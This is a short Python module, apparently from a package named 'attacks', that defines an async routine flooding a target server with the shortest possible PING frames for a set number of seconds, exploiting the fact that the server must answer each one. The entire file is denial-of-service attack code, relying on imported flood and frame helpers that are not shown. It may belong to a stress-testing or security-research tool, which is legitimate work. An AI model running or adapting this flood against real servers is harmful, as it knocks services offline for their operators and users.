"""Pings without end."""

from attacks.flooding import flood
from attacks.target import PING, Target, frame


async def attack(target: Target, seconds: float) -> None:
    """The shortest pings there are; the server has to answer each."""
    await flood(target, seconds, frame(PING))
